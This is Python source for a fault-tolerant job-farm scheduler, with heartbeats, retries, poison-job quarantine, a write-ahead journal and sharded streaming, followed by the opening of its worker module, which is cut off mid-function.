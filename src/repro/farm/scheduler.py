"""The farm scheduler: shard, dispatch, supervise, journal — never lose a job.

``workers=1`` executes inline in this process — that *is* the serial
baseline the parity tests and the bench compare against, not a special
case bolted on.  ``workers>1`` dispatches to a pool of directly-forked
workers (:mod:`repro.farm.health`) under full fleet discipline:

* **heartbeats** — each worker stamps a per-job heartbeat file; the
  scheduler distinguishes *hung* (alive, silent — SIGKILL + reclaim)
  from *dead* (reaped) from *busy* (stamping — leave it alone), and
  enforces an optional per-job wall-clock ``deadline`` on top of the
  Supervisor's in-worker instruction budget;
* **bounded retry with backoff + jitter** — a job whose worker died,
  hung, or tore its result is requeued up to ``max_retries`` times with
  exponentially growing, deterministically jittered delays (shared
  policy: :func:`repro.resilience.backoff.backoff_delay`);
* **poison quarantine** — a job that kills ``poison_threshold`` workers
  (counted across scheduler restarts, via the journal) is classified
  ``poison`` with a tombstone, cached, and never dispatched again: one
  hostile app costs one classified outcome fleet-wide;
* **write-ahead journal** — every transition is fsync'd to
  ``run_dir/journal.jsonl`` *before* it takes effect, and workers commit
  results with crash-consistent store writes, so SIGKILLing the
  scheduler itself mid-run and re-running with ``resume=True`` completes
  exactly: no lost jobs, no duplicate records, no corrupt store;
* **clean drain** — SIGTERM/``KeyboardInterrupt`` journals in-flight
  jobs as ``interrupted``, SIGKILLs the pool (no leaked forks), and
  raises :class:`FarmInterrupted` for the CLI to exit nonzero.

Every job ends in exactly one of ``cached`` / a worker-classified result
(``ok``/``degraded``/``crashed``/``timeout``) / ``poison`` / ``lost``
(retries exhausted below the poison threshold; never cached).
"""

from __future__ import annotations

import heapq
import json
import os
import shutil
import signal
import tempfile
import threading
import time
from collections import deque
from typing import Callable, Dict, List, Optional, Tuple

from repro.farm import worker as worker_module
from repro.farm.health import (
    HEARTBEAT_INTERVAL,
    HealthStats,
    WorkerHandle,
    WorkerPool,
    stamp_heartbeat,
)
from repro.farm.journal import RunJournal, replay
from repro.farm.manifest import JobSpec, Manifest, ShardedManifest
from repro.farm.store import ResultStore, atomic_write_json, read_verified_json
from repro.farm.worker import DEFAULT_BUDGET
from repro.resilience.backoff import backoff_delay, jitter_rng

STATUS_LOST = "lost"
STATUS_POISON = "poison"
STATUS_INTERRUPTED = "interrupted"

# Statuses worth replaying from cache on --resume.  Crashes/timeouts are
# deterministic under a fixed spec, so they cache too, and a poison
# verdict is the whole point of quarantine (classified exactly once);
# only a lost worker (environmental) must re-run.
CACHEABLE = ("ok", "degraded", "crashed", "timeout", "poison")

DEFAULT_MAX_RETRIES = 2
DEFAULT_POISON_THRESHOLD = 3
RETRY_BACKOFF_BASE = 0.05
RETRY_BACKOFF_JITTER = 0.5


class FarmInterrupted(RuntimeError):
    """A clean drain: the run was interrupted, in-flight jobs journaled."""

    def __init__(self, in_flight: List[str]) -> None:
        jobs = ", ".join(in_flight) if in_flight else "none in flight"
        super().__init__(f"farm run interrupted ({jobs})")
        self.in_flight = in_flight


def _base_row(spec: JobSpec, status: str, error: str, elapsed: float,
              attempts: int, tombstone: Optional[Dict]) -> Dict:
    return {
        "job": spec.to_dict(),
        "digest": spec.digest(),
        "status": status,
        "attempts": attempts,
        "degraded_events": 0,
        "quarantined_hooks": [],
        "injected_faults": [],
        "error": error,
        "tombstone": tombstone,
        "elapsed_seconds": elapsed,
        "metrics": {},
        "leaks": [],
    }


def _lost_result(spec: JobSpec, error, elapsed: float,
                 attempts: int = 1) -> Dict:
    if isinstance(error, BaseException):
        message = f"worker lost: {type(error).__name__}: {error}"
    else:
        message = f"worker lost: {error}"
    return _base_row(spec, STATUS_LOST, message, elapsed, attempts,
                     tombstone=None)


def _poison_result(spec: JobSpec, strikes: int, reasons: List[str],
                   elapsed: float, attempts: int) -> Dict:
    message = (f"poison job: killed {strikes} workers "
               f"({', '.join(reasons)})")
    tombstone = {
        "error_type": "PoisonJob",
        "error_message": message,
        "strikes": strikes,
        "strike_reasons": list(reasons),
    }
    return _base_row(spec, STATUS_POISON, message, elapsed, attempts,
                     tombstone=tombstone)


def _interrupted_result(spec: JobSpec, elapsed: float,
                        attempts: int) -> Dict:
    return _base_row(spec, STATUS_INTERRUPTED,
                     "run interrupted while job was in flight",
                     elapsed, attempts, tombstone=None)


class FarmScheduler:
    """Runs a manifest to one result row per job, in manifest order."""

    def __init__(self, manifest: Manifest, workers: int = 1,
                 store: Optional[ResultStore] = None, resume: bool = False,
                 budget: Optional[int] = DEFAULT_BUDGET,
                 deadline: Optional[float] = None,
                 max_retries: int = DEFAULT_MAX_RETRIES,
                 poison_threshold: int = DEFAULT_POISON_THRESHOLD,
                 heartbeat_interval: float = HEARTBEAT_INTERVAL,
                 run_dir: Optional[str] = None, chaos=None,
                 metrics=None, trace_dir: Optional[str] = None,
                 warm: bool = False,
                 tb_cache: Optional[str] = None) -> None:
        self.manifest = manifest
        self.workers = max(1, workers)
        self.warm = warm
        self.tb_cache = tb_cache
        self.store = store
        self.resume = resume and store is not None
        self.budget = budget
        self.deadline = deadline
        self.max_retries = max(0, max_retries)
        self.poison_threshold = max(1, poison_threshold)
        self.heartbeat_interval = heartbeat_interval
        self.run_dir = run_dir
        self.chaos = chaos
        self.trace_dir = trace_dir
        self.health = HealthStats()
        if metrics is not None:
            self.health.register_metrics(metrics)
        self.cached_jobs = 0
        self.wall_seconds = 0.0
        self._strikes: Dict[str, int] = {}
        self._strike_reasons: Dict[str, List[str]] = {}
        # The scheduler's own span tracer (None when trace_dir is unset)
        # and the open job spans it correlates, keyed (digest, attempt).
        self._tracer = None
        self._job_spans: Dict[Tuple[str, int], int] = {}

    # -- dispatch -------------------------------------------------------------

    def run(self) -> List[Dict]:
        start = time.perf_counter()
        # Warm policy is process-wide: inline workers read it directly,
        # forked workers inherit it (and the booted templates) via COW.
        worker_module.configure_warm(self.warm, self.tb_cache)
        results: List[Optional[Dict]] = [None] * len(self.manifest)
        pending: List[int] = []
        self.cached_jobs = 0

        run_dir = self.run_dir or tempfile.mkdtemp(prefix="repro-farm-run-")
        os.makedirs(run_dir, exist_ok=True)
        if self.trace_dir is not None:
            from repro.observability.flight import FlightSpool
            from repro.observability.spans import SpanTracer
            os.makedirs(self.trace_dir, exist_ok=True)
            self._tracer = SpanTracer(spool=FlightSpool(os.path.join(
                self.trace_dir, f"scheduler-{os.getpid()}.jsonl")))
        journal = RunJournal(os.path.join(run_dir, "journal.jsonl"))
        if self.resume:
            # Strike counts survive scheduler death: a poison job that
            # killed two workers before the scheduler was SIGKILLed is
            # one strike from quarantine, not three.
            state = replay(journal.path)
            self._strikes = {digest: ledger.strikes
                            for digest, ledger in state.jobs.items()
                            if ledger.strikes}
        journal.record("run_start", resume=self.resume,
                       workers=self.workers, jobs=len(self.manifest),
                       pid=os.getpid())

        for index, spec in enumerate(self.manifest):
            cached = self._from_cache(spec)
            if cached is not None:
                cached["cached"] = True
                results[index] = cached
                self.cached_jobs += 1
                journal.record("cached", digest=spec.digest(), id=spec.id,
                               status=cached.get("status"))
                self._trace_event("cached", spec.digest(), id=spec.id)
            else:
                pending.append(index)
                self._trace_event("queued", spec.digest(), id=spec.id)

        previous_sigterm = self._install_sigterm()
        try:
            if pending:
                if self.workers == 1:
                    self._run_inline(pending, results, journal)
                else:
                    self._run_pool(pending, results, journal, run_dir)
            journal.record("run_end", jobs=len(self.manifest))
        finally:
            self._restore_sigterm(previous_sigterm)
            journal.close()
            if self._tracer is not None:
                self._tracer.close()
            if self.run_dir is None:
                shutil.rmtree(run_dir, ignore_errors=True)

        for result in results:
            result.setdefault("cached", False)
        self.wall_seconds = time.perf_counter() - start
        return results  # type: ignore[return-value]

    # -- signals --------------------------------------------------------------

    @staticmethod
    def _install_sigterm():
        """SIGTERM drains exactly like ^C (only from the main thread)."""
        if threading.current_thread() is not threading.main_thread():
            return None
        def raise_interrupt(signum, frame):
            raise KeyboardInterrupt(f"signal {signum}")
        try:
            return signal.signal(signal.SIGTERM, raise_interrupt)
        except (ValueError, OSError):  # pragma: no cover - exotic hosts
            return None

    @staticmethod
    def _restore_sigterm(previous) -> None:
        if previous is not None:
            try:
                signal.signal(signal.SIGTERM, previous)
            except (ValueError, OSError):  # pragma: no cover
                pass

    # -- tracing --------------------------------------------------------------
    #
    # The scheduler's spans mirror the journal: every lifecycle edge
    # (queued/cached/spawned/retry/quarantined/lost/committed) becomes an
    # instant event, and each dispatch attempt gets a detached "job" span
    # correlated with the worker's own spool by trace id = digest prefix.

    def _trace_event(self, name: str, digest: str, **args) -> None:
        if self._tracer is not None:
            self._tracer.event(name, cat="scheduler", trace=digest[:12],
                               **args)

    def _trace_begin(self, digest: str, attempt: int, job_id: str) -> None:
        if self._tracer is not None:
            self._job_spans[(digest, attempt)] = self._tracer.begin(
                "job", cat="scheduler", trace=digest[:12], detached=True,
                id=job_id, attempt=attempt)

    def _trace_end(self, digest: str, attempt: int, **args) -> None:
        if self._tracer is not None:
            span = self._job_spans.pop((digest, attempt), None)
            if span is not None:
                self._tracer.end(span, **args)

    def _worker_spool(self, digest: str, attempt: int) -> Optional[str]:
        """Per-attempt spool path (attempts never interleave in one file)."""
        if self.trace_dir is None:
            return None
        return os.path.join(self.trace_dir,
                            f"worker-{digest[:12]}-a{attempt}.jsonl")

    # -- cache ----------------------------------------------------------------

    def _from_cache(self, spec: JobSpec) -> Optional[Dict]:
        if not self.resume:
            return None
        result = self.store.get(spec.digest())
        if result is None or result.get("status") not in CACHEABLE:
            return None
        return result

    def _record(self, spec: JobSpec, result: Dict) -> Dict:
        if self.store is not None and result.get("status") in CACHEABLE:
            self.store.put(spec.digest(), result)
        return result

    # -- inline (serial baseline) ---------------------------------------------

    def _run_inline(self, pending: List[int],
                    results: List[Optional[Dict]], journal: RunJournal) -> None:
        jobs = self.manifest.jobs
        tracer = self._tracer
        for index in pending:
            spec = jobs[index]
            digest = spec.digest()
            journal.record("dispatched", digest=digest, id=spec.id,
                           attempt=1, pid=os.getpid())
            self._trace_begin(digest, 1, spec.id)
            if tracer is not None:
                # Inline mode shares one process (and one tracer) across
                # scheduler and worker roles; re-point the trace id so
                # engine spans still correlate per job.
                tracer.trace_id = digest[:12]
            job_start = time.perf_counter()
            try:
                # tracer kwarg only when tracing: tests monkeypatch
                # execute_job with narrower signatures.
                if tracer is None:
                    result = worker_module.execute_job(spec.to_dict(),
                                                       budget=self.budget)
                else:
                    result = worker_module.execute_job(spec.to_dict(),
                                                       budget=self.budget,
                                                       tracer=tracer)
            except KeyboardInterrupt:
                journal.record("interrupted", digest=digest, id=spec.id,
                               attempt=1)
                self.health.interrupted_jobs += 1
                results[index] = _interrupted_result(
                    spec, time.perf_counter() - job_start, attempts=1)
                self._trace_end(digest, 1, status=STATUS_INTERRUPTED)
                raise FarmInterrupted([spec.id]) from None
            finally:
                if tracer is not None:
                    tracer.trace_id = ""
            results[index] = self._record(spec, result)
            journal.record("done", digest=digest, id=spec.id, attempt=1,
                           status=result.get("status"))
            self._trace_event("committed", digest, id=spec.id,
                              status=result.get("status"))
            self._trace_end(digest, 1, status=result.get("status"))

    # -- pool (fleet mode) ----------------------------------------------------

    def _result_sink(self, run_dir: str, digest: str
                     ) -> Tuple[str, Callable[[Dict], None]]:
        """Where a worker commits its result and how the parent reads it.

        With a store, the worker commits straight into it (the atomic
        fsync'd write *is* the transaction — scheduler death after the
        commit costs nothing).  Without one, results spool into the run
        directory with the same crash-consistent write.
        """
        if self.store is not None:
            path = os.path.join(self.store.directory, f"{digest}.json")
            return path, (lambda result: self.store.put(digest, result))
        spool = os.path.join(run_dir, "spool")
        os.makedirs(spool, exist_ok=True)
        path = os.path.join(spool, f"{digest}.json")
        return path, (lambda result: atomic_write_json(path, result))

    def _read_result(self, path: str, digest: str) -> Optional[Dict]:
        if self.store is not None:
            return self.store.get(digest)   # drops torn entries itself
        result = read_verified_json(path, digest=digest)
        if result is not None:
            try:
                os.unlink(path)
            except OSError:
                pass
        return result

    def _run_pool(self, pending: List[int], results: List[Optional[Dict]],
                  journal: RunJournal, run_dir: str) -> None:
        jobs = self.manifest.jobs
        if self.warm:
            # Boot one template per config in the parent *before* any
            # fork: every per-job child then inherits the booted
            # platform — warm TB/block/trampoline caches included —
            # copy-on-write, and pays only reset_for_job().
            worker_module.warm_boot_templates(
                jobs[index].config for index in pending)
        pool = WorkerPool(hb_dir=os.path.join(run_dir, "hb"),
                          interval=self.heartbeat_interval)
        queue = deque(pending)
        retries: List = []              # heap of (eligible_monotonic, index)
        attempts: Dict[int, int] = {}
        result_paths: Dict[str, str] = {}
        try:
            while queue or retries or pool.live:
                now = time.monotonic()
                while retries and retries[0][0] <= now:
                    __, index = heapq.heappop(retries)
                    queue.append(index)
                progressed = self._spawn_ready(queue, pool, attempts,
                                               journal, run_dir,
                                               result_paths)
                progressed |= self._collect(pool, results, journal,
                                            retries, attempts, result_paths)
                progressed |= self._reclaim_unhealthy(
                    pool, results, journal, retries, attempts)
                if not progressed:
                    time.sleep(min(self.heartbeat_interval / 4, 0.01))
        except KeyboardInterrupt:
            in_flight = sorted(handle.job_id
                               for handle in pool.live.values())
            for handle in sorted(pool.live.values(),
                                 key=lambda h: h.index):
                journal.record("interrupted", digest=handle.digest,
                               id=handle.job_id, attempt=handle.attempt)
                self.health.interrupted_jobs += 1
                results[handle.index] = _interrupted_result(
                    jobs[handle.index], handle.runtime(time.monotonic()),
                    attempts=handle.attempt)
                self._trace_end(handle.digest, handle.attempt,
                                status=STATUS_INTERRUPTED)
            raise FarmInterrupted(in_flight) from None
        finally:
            pool.kill_all()

    def _spawn_ready(self, queue, pool: WorkerPool, attempts: Dict[int, int],
                     journal: RunJournal, run_dir: str,
                     result_paths: Dict[str, str]) -> bool:
        jobs = self.manifest.jobs
        progressed = False
        while queue and len(pool.live) < self.workers:
            index = queue.popleft()
            spec = jobs[index]
            digest = spec.digest()
            attempts[index] = attempts.get(index, 0) + 1
            path, commit = self._result_sink(run_dir, digest)
            result_paths[digest] = path
            handle = pool.spawn(spec.to_dict(), self.budget, index, digest,
                                spec.id, attempts[index], commit,
                                spool_path=self._worker_spool(
                                    digest, attempts[index]),
                                trace_id=digest[:12])
            journal.record("dispatched", digest=digest, id=spec.id,
                           attempt=attempts[index], pid=handle.pid)
            self._trace_begin(digest, attempts[index], spec.id)
            self._trace_event("spawned", digest, id=spec.id,
                              attempt=attempts[index], pid=handle.pid)
            if self.chaos is not None:
                self.chaos.on_spawn(handle)
            progressed = True
        return progressed

    def _collect(self, pool: WorkerPool, results, journal: RunJournal,
                 retries, attempts, result_paths) -> bool:
        progressed = False
        for handle, status in pool.reap():
            progressed = True
            if status == 0:
                path = result_paths.get(handle.digest, "")
                if self.chaos is not None:
                    self.chaos.on_commit(handle, path)
                result = self._read_result(path, handle.digest)
                if result is None:
                    self.health.torn_results += 1
                    self._strike(handle, "torn-result", results, journal,
                                 retries, attempts)
                    continue
                results[handle.index] = result
                journal.record("done", digest=handle.digest,
                               id=handle.job_id, attempt=handle.attempt,
                               status=result.get("status"))
                self._trace_event("committed", handle.digest,
                                  id=handle.job_id,
                                  status=result.get("status"))
                self._trace_end(handle.digest, handle.attempt,
                                status=result.get("status"))
            else:
                self.health.worker_deaths += 1
                self.health.record_reclaim(
                    handle.heartbeat_age(time.time()))
                cause = (f"worker died (signal {-status})" if status < 0
                         else f"worker died (exit {status})")
                self._strike(handle, cause, results, journal, retries,
                             attempts)
        return progressed

    def _reclaim_unhealthy(self, pool: WorkerPool, results,
                           journal: RunJournal, retries,
                           attempts) -> bool:
        progressed = False
        now_wall = time.time()
        for handle in pool.overdue(self.deadline):
            progressed = True
            self.health.deadline_kills += 1
            self.health.record_reclaim(handle.heartbeat_age(now_wall))
            pool.kill(handle)
            self._strike(handle, f"deadline ({self.deadline:.1f}s) exceeded",
                         results, journal, retries, attempts)
        for handle in pool.hung(now_wall):
            progressed = True
            self.health.hung_workers += 1
            self.health.record_reclaim(handle.heartbeat_age(now_wall))
            pool.kill(handle)
            self._strike(handle, "hung (heartbeats missed)", results,
                         journal, retries, attempts)
        return progressed

    # -- failure policy -------------------------------------------------------

    def _strike(self, handle: WorkerHandle, reason: str, results,
                journal: RunJournal, retries, attempts) -> None:
        spec = self.manifest.jobs[handle.index]
        digest = handle.digest
        strikes = self._strikes.get(digest, 0) + 1
        self._strikes[digest] = strikes
        reasons = self._strike_reasons.setdefault(digest, [])
        reasons.append(reason)
        # The worker's last self-reported vitals: how far it got before
        # it died/hung, straight from the heartbeat body.
        vitals = handle.read_vitals()
        last_instructions = vitals["instructions"] if vitals else 0
        journal.record("strike", digest=digest, id=handle.job_id,
                       attempt=handle.attempt, reason=reason,
                       strikes=strikes, instructions=last_instructions)
        elapsed = handle.runtime(time.monotonic())
        if strikes >= self.poison_threshold:
            row = _poison_result(spec, strikes, reasons, elapsed,
                                 attempts=handle.attempt)
            row["tombstone"]["last_instructions"] = last_instructions
            journal.record("poison", digest=digest, id=handle.job_id,
                           strikes=strikes)
            self.health.poison_quarantined += 1
            results[handle.index] = self._record(spec, row)
            self._trace_event("quarantined", digest, id=handle.job_id,
                              strikes=strikes,
                              instructions=last_instructions)
            self._trace_end(digest, handle.attempt, status=STATUS_POISON)
        elif handle.attempt >= 1 + self.max_retries:
            row = _lost_result(spec, reason, elapsed,
                               attempts=handle.attempt)
            journal.record("lost", digest=digest, id=handle.job_id,
                           attempt=handle.attempt, reason=reason)
            self.health.lost_jobs += 1
            results[handle.index] = row       # lost is never cached
            self._trace_event("lost", digest, id=handle.job_id,
                              reason=reason)
            self._trace_end(digest, handle.attempt, status=STATUS_LOST)
        else:
            delay = backoff_delay(handle.attempt, base=RETRY_BACKOFF_BASE,
                                  jitter=RETRY_BACKOFF_JITTER,
                                  rng=jitter_rng(digest, handle.attempt))
            journal.record("retry", digest=digest, id=handle.job_id,
                           next_attempt=handle.attempt + 1, delay=delay)
            self.health.retries += 1
            heapq.heappush(retries, (time.monotonic() + delay,
                                     handle.index))
            self._trace_event("retry", digest, id=handle.job_id,
                              next_attempt=handle.attempt + 1,
                              reason=reason,
                              instructions=last_instructions)
            self._trace_end(digest, handle.attempt, status="struck")


# Streaming (sharded) farm: how often the batched journal fsyncs, and
# how often a shard worker stamps its heartbeat (in jobs).
STREAM_JOURNAL_CHECKPOINT = 64
STREAM_HEARTBEAT_JOBS = 200


class StreamFarm:
    """Runs a :class:`ShardedManifest` with long-lived shard workers.

    The per-job scheduler forks one worker per job — right for minutes-
    long emulation jobs, hopeless for a 100k-job corpus where each job
    is sub-millisecond static analysis.  The streaming farm flips the
    unit of work to the **shard**:

    * workers are forked once and pull whole shards from the manifest's
      shard iterators (static stride assignment: worker ``w`` of ``W``
      serves pending shards ``w, w+W, ...``), streaming specs from disk
      one at a time;
    * each shard's results spool to a JSONL file committed by atomic
      rename — crash anywhere and the shard either exists completely
      (digest-addressed: the file name carries the shard's content
      digest) or re-runs on ``resume``;
    * the journal batches its fsync barrier
      (``checkpoint_interval`` records) instead of paying one per job:
      all ``shard_dispatched`` records are checkpointed *before* any
      worker forks, so the write-ahead property holds at shard
      granularity;
    * a worker that dies takes only its unfinished shards with it — the
      parent re-runs exactly the shards whose result files are missing,
      inline, after the pool drains;
    * the merge never materializes the result set: rows stream straight
      from the shard files through a :class:`~repro.farm.merge.MergeFold`.
    """

    def __init__(self, manifest: ShardedManifest, workers: int = 1,
                 run_dir: Optional[str] = None, resume: bool = False,
                 budget: Optional[int] = DEFAULT_BUDGET,
                 checkpoint_interval: int = STREAM_JOURNAL_CHECKPOINT,
                 warm: bool = False,
                 tb_cache: Optional[str] = None) -> None:
        self.manifest = manifest
        self.workers = max(1, workers)
        self.run_dir = run_dir
        self.resume = resume
        self.budget = budget
        self.warm = warm
        self.tb_cache = tb_cache
        self.checkpoint_interval = max(1, checkpoint_interval)
        self.health = HealthStats()
        self.cached_jobs = 0
        self.wall_seconds = 0.0

    # -- layout ---------------------------------------------------------------

    def _result_name(self, index: int) -> str:
        shard = self.manifest.shards[index]
        return f"{shard.name}.{shard.digest[:12]}.results.jsonl"

    def _result_path(self, results_dir: str, index: int) -> str:
        return os.path.join(results_dir, self._result_name(index))

    # -- run ------------------------------------------------------------------

    def run(self):
        from repro.farm.merge import MergeFold

        start = time.perf_counter()
        # Configured before the pool forks: each long-lived shard worker
        # boots its template lazily, once, and keeps it warm across
        # every job it streams.
        worker_module.configure_warm(self.warm, self.tb_cache)
        run_dir = self.run_dir or tempfile.mkdtemp(prefix="repro-stream-")
        results_dir = os.path.join(run_dir, "results")
        hb_dir = os.path.join(run_dir, "hb")
        os.makedirs(results_dir, exist_ok=True)
        os.makedirs(hb_dir, exist_ok=True)
        for stale in os.listdir(results_dir):
            if ".tmp." in stale:        # torn spool from a dead worker
                try:
                    os.unlink(os.path.join(results_dir, stale))
                except OSError:
                    pass

        journal = RunJournal(os.path.join(run_dir, "journal.jsonl"),
                             checkpoint_interval=self.checkpoint_interval)
        shard_count = self.manifest.shard_count
        journal.record("run_start", mode="stream", resume=self.resume,
                       workers=self.workers, shards=shard_count,
                       jobs=len(self.manifest), pid=os.getpid())

        pending: List[int] = []
        self.cached_jobs = 0
        for index in range(shard_count):
            if self.resume and \
                    os.path.exists(self._result_path(results_dir, index)):
                self.cached_jobs += self.manifest.shards[index].jobs
                journal.record("shard_cached",
                               shard=self.manifest.shards[index].name)
            else:
                pending.append(index)
                journal.record("shard_dispatched",
                               shard=self.manifest.shards[index].name,
                               jobs=self.manifest.shards[index].jobs)
        # Write-ahead at shard granularity: every dispatch record is
        # durable before any worker starts.
        journal.checkpoint()

        try:
            if pending:
                if self.workers == 1:
                    self._run_inline(pending, results_dir, journal)
                else:
                    self._run_pool(pending, results_dir, hb_dir, journal)
            journal.record("run_end", shards=shard_count)
        finally:
            journal.close()

        fold = MergeFold(rows_path=os.path.join(run_dir, "rows.jsonl"))
        for index in range(shard_count):
            for result in _iter_jsonl(self._result_path(results_dir, index)):
                result.setdefault("cached", False)
                fold.add(result)
        self.wall_seconds = time.perf_counter() - start
        report = fold.finish(workers=self.workers,
                             wall_seconds=self.wall_seconds,
                             cached_jobs=self.cached_jobs,
                             health=self.health.summary())
        if self.run_dir is None:
            shutil.rmtree(run_dir, ignore_errors=True)
            report.rows_path = None
        return report

    # -- serial ---------------------------------------------------------------

    def _run_inline(self, pending: List[int], results_dir: str,
                    journal: RunJournal) -> None:
        for index in pending:
            summary = worker_module.execute_shard(
                (spec.to_dict() for spec in self.manifest.iter_shard(index)),
                self._result_path(results_dir, index), budget=self.budget)
            journal.record("shard_done",
                           shard=self.manifest.shards[index].name,
                           jobs=summary["jobs"])

    # -- pool -----------------------------------------------------------------

    def _shard_worker(self, worker_index: int, pending: List[int],
                      results_dir: str, hb_dir: str) -> None:
        """Body of one long-lived forked shard worker."""
        hb_path = os.path.join(hb_dir, f"stream-worker-{worker_index}")
        for position, index in enumerate(pending):
            if position % self.workers != worker_index:
                continue
            shard = self.manifest.shards[index]
            stamp_heartbeat(hb_path, shard.name)

            def progress(jobs_done: int, name=shard.name) -> None:
                if jobs_done % STREAM_HEARTBEAT_JOBS == 0:
                    stamp_heartbeat(hb_path, name, jobs_done)

            worker_module.execute_shard(
                (spec.to_dict() for spec in self.manifest.iter_shard(index)),
                self._result_path(results_dir, index),
                budget=self.budget, progress=progress)

    def _run_pool(self, pending: List[int], results_dir: str,
                  hb_dir: str, journal: RunJournal) -> None:
        pids: List[int] = []
        try:
            for worker_index in range(self.workers):
                pid = os.fork()
                if pid == 0:
                    code = 1
                    try:
                        self._shard_worker(worker_index, pending,
                                           results_dir, hb_dir)
                        code = 0
                    except BaseException:
                        code = 1
                    finally:
                        os._exit(code)
                pids.append(pid)
            for pid in pids:
                try:
                    __, raw = os.waitpid(pid, 0)
                except ChildProcessError:  # pragma: no cover
                    raw = 1 << 8
                if raw != 0:
                    self.health.worker_deaths += 1
        except KeyboardInterrupt:
            for pid in pids:
                try:
                    os.kill(pid, signal.SIGKILL)
                    os.waitpid(pid, 0)
                except (ProcessLookupError, ChildProcessError):
                    pass
            missing = [self.manifest.shards[i].name for i in pending
                       if not os.path.exists(
                           self._result_path(results_dir, i))]
            for name in missing:
                journal.record("interrupted", shard=name)
            raise FarmInterrupted(missing) from None
        # Reclaim: any shard whose result never committed (its worker
        # died mid-shard) re-runs inline — the atomic rename guarantees
        # nothing partial survived.
        for index in pending:
            path = self._result_path(results_dir, index)
            if os.path.exists(path):
                journal.record("shard_done",
                               shard=self.manifest.shards[index].name,
                               jobs=self.manifest.shards[index].jobs)
                continue
            self.health.retries += 1
            summary = worker_module.execute_shard(
                (spec.to_dict() for spec in self.manifest.iter_shard(index)),
                path, budget=self.budget)
            journal.record("shard_reclaimed",
                           shard=self.manifest.shards[index].name,
                           jobs=summary["jobs"])


def _iter_jsonl(path: str):
    """Yield result dicts from one shard spool, tolerating a torn line."""
    try:
        handle = open(path)
    except FileNotFoundError:
        return
    with handle:
        for line in handle:
            line = line.strip()
            if not line:
                continue
            try:
                row = json.loads(line)
            except ValueError:  # pragma: no cover - files commit whole
                continue
            if isinstance(row, dict):
                yield row


def run_farm(manifest, workers: int = 1,
             store: Optional[ResultStore] = None, resume: bool = False,
             budget: Optional[int] = DEFAULT_BUDGET, **scheduler_options):
    """Convenience wrapper: schedule, run, merge; returns a FarmReport.

    A :class:`ShardedManifest` routes to the streaming farm (the store
    is unused there — shard result files are the cache); a list-shaped
    :class:`Manifest` takes the per-job fault-tolerant path.
    """
    from repro.farm.merge import merge_results

    if isinstance(manifest, ShardedManifest):
        run_dir = scheduler_options.pop("run_dir", None)
        checkpoint = scheduler_options.pop("checkpoint_interval",
                                           STREAM_JOURNAL_CHECKPOINT)
        warm = scheduler_options.pop("warm", False)
        tb_cache = scheduler_options.pop("tb_cache", None)
        farm = StreamFarm(manifest, workers=workers, run_dir=run_dir,
                          resume=resume, budget=budget,
                          checkpoint_interval=checkpoint,
                          warm=warm, tb_cache=tb_cache)
        return farm.run()

    scheduler = FarmScheduler(manifest, workers=workers, store=store,
                              resume=resume, budget=budget,
                              **scheduler_options)
    results = scheduler.run()
    return merge_results(results, workers=workers,
                         wall_seconds=scheduler.wall_seconds,
                         cached_jobs=scheduler.cached_jobs,
                         health=scheduler.health.summary())
