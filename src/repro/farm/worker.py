"""The farm worker: run one job to a classified, JSON-able result.

:func:`execute_job` is the only function that crosses the process-pool
boundary, so it takes and returns plain dicts (picklable, JSON-able) and
lives at module top level.  Every job runs inside the resilience
:class:`Supervisor`, so a crashing or runaway app becomes a recorded
``crashed``/``timeout`` outcome with a tombstone (the serialized
:class:`CrashReport`) instead of killing the worker — and anything that
somehow escapes the supervisor is caught here and tombstoned too, so the
pool never loses a worker to one hostile job.
"""

from __future__ import annotations

import io
import os
import time
from typing import Dict, Optional

from repro.farm.manifest import JobSpec

DEFAULT_BUDGET = 2_000_000

# The worker's live platform, published for the heartbeat thread's vitals
# poll (current instruction count) and torn down per job.  A module
# global on purpose: the heartbeat thread must read it without holding
# any reference into the job's call stack.
LIVE: Dict = {"platform": None, "tracer": None}

# Warm-worker state, configured once per process by the scheduler (before
# forking, so children inherit booted templates copy-on-write) via
# :func:`configure_warm`.  ``templates`` maps config name -> a booted
# platform that ``reset_for_job()`` returns to pristine between jobs;
# ``persistence`` is the process-wide on-disk translation cache handle.
WARM: Dict = {"enabled": False, "tb_cache": None, "persistence": None,
              "templates": {}}


def configure_warm(enabled: bool = False,
                   tb_cache: Optional[str] = None) -> None:
    """Set this process's warm-worker policy (scheduler entry point)."""
    WARM["enabled"] = bool(enabled)
    WARM["tb_cache"] = tb_cache
    WARM["persistence"] = None
    WARM["templates"] = {}


def _persistence():
    if WARM["tb_cache"] is None:
        return None
    persistence = WARM.get("persistence")
    if persistence is None:
        from repro.emulator.persist import TranslationPersistence

        persistence = TranslationPersistence(WARM["tb_cache"])
        WARM["persistence"] = persistence
    return persistence


def warm_boot_templates(configs) -> None:
    """Boot one template platform per config (call before forking)."""
    if not WARM["enabled"]:
        return
    from repro.bench.harness import make_platform

    for config in sorted(set(configs)):
        if config in WARM["templates"]:
            continue
        platform = make_platform(config)
        persistence = _persistence()
        if persistence is not None:
            platform.attach_persistence(persistence)
        platform.prepare_template()
        WARM["templates"][config] = platform


def _boot_platform(spec: JobSpec, ctx):
    """Build + attach the job's platform, publishing it to ``LIVE``.

    With a span tracer active the boot is wrapped in a ``platform_boot``
    span, the engines' span hooks are pointed at the tracer, and a
    µs-per-crossing histogram is registered so JNI latency percentiles
    land in the job's metrics snapshot.

    Warm mode reuses the per-config template platform instead: the job
    pays ``reset_for_job()`` (a state wipe), not a full boot, and keeps
    every warm translation cache.  Traced jobs always cold-boot — the
    ledger/profiler wiring is per-platform and jobs must not share it.
    """
    from repro.bench.harness import make_platform

    tracer = LIVE.get("tracer")
    if tracer is None and not spec.trace and WARM["enabled"]:
        platform = WARM["templates"].get(spec.config)
        if platform is None:
            # A long-lived forked worker boots its template lazily (the
            # pool scheduler pre-boots before forking; this is the
            # fallback for workers forked before configure_warm ran jobs).
            warm_boot_templates([spec.config])
            platform = WARM["templates"][spec.config]
        platform.reset_for_job()
        LIVE["platform"] = platform
        ctx.attach(platform)
        return platform
    if tracer is None:
        platform = make_platform(spec.config, trace=spec.trace)
        persistence = _persistence()
        if persistence is not None and not spec.trace:
            platform.attach_persistence(persistence)
    else:
        with tracer.span("platform_boot", cat="worker",
                         config=spec.config):
            platform = make_platform(spec.config, trace=spec.trace)
        observability = platform.observability
        if observability is not None:
            observability.attach_spans(tracer)
            platform.jni.crossing_histogram = \
                observability.metrics.histogram("jni.crossing_us")
        else:
            from repro.observability.spans import attach_spans
            attach_spans(platform, tracer)
    LIVE["platform"] = platform
    ctx.attach(platform)
    return platform


def _leak_rows(platform) -> list:
    return [
